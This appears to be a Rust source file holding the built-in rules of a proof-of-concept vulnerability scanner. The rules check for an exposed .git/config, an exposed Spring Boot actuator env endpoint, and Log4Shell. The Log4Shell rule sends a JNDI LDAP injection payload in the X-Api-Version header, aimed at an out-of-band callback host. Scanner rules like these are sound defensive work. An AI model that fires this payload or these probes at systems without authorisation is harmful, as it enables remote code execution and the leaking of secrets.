//! Rules compiled into the binary.
//!
//! Kept deliberately small. Rule files are the extension point; these
//! cover checks worth having on hand without any rule directory at all.

use crate::rules::{Matcher, PocRule, ProbeSpec, Severity};
use std::collections::BTreeMap;

/// The compiled-in rule set, one entry per known check.
pub fn builtin_rules() -> Vec<PocRule> {
    vec![
        git_config_exposure(),
        spring_actuator_env(),
        log4j_jndi_callback(),
    ]
}

fn get(path: &str, matcher: Matcher) -> ProbeSpec {
    ProbeSpec {
        method: "GET".to_string(),
        path: path.to_string(),
        headers: BTreeMap::new(),
        body: None,
        matcher,
    }
}

fn git_config_exposure() -> PocRule {
    PocRule {
        name: "git-config-exposure".to_string(),
        severity: Severity::Medium,
        description: "Git repository metadata reachable over HTTP".to_string(),
        probes: vec![get(
            "/.git/config",
            Matcher::All(vec![
                Matcher::StatusIs(200),
                Matcher::BodyContains("[core]".to_string()),
            ]),
        )],
    }
}

fn spring_actuator_env() -> PocRule {
    PocRule {
        name: "spring-actuator-env".to_string(),
        severity: Severity::High,
        description: "Spring Boot actuator env endpoint exposed without auth".to_string(),
        probes: vec![get(
            "/actuator/env",
            Matcher::All(vec![
                Matcher::StatusIs(200),
                Matcher::Any(vec![
                    Matcher::BodyContains("activeProfiles".to_string()),
                    Matcher::BodyContains("propertySources".to_string()),
                ]),
            ]),
        )],
    }
}

fn log4j_jndi_callback() -> PocRule {
    let mut headers = BTreeMap::new();
    headers.insert(
        "X-Api-Version".to_string(),
        "${jndi:ldap://{{reverse}}/a}".to_string(),
    );
    PocRule {
        name: "log4j-jndi-callback".to_string(),
        severity: Severity::Critical,
        description: "Blind JNDI lookup through a commonly logged header".to_string(),
        probes: vec![ProbeSpec {
            method: "GET".to_string(),
            path: "/".to_string(),
            headers,
            body: None,
            // A hit can only come from the callback correlator.
            matcher: Matcher::Never,
        }],
    }
}
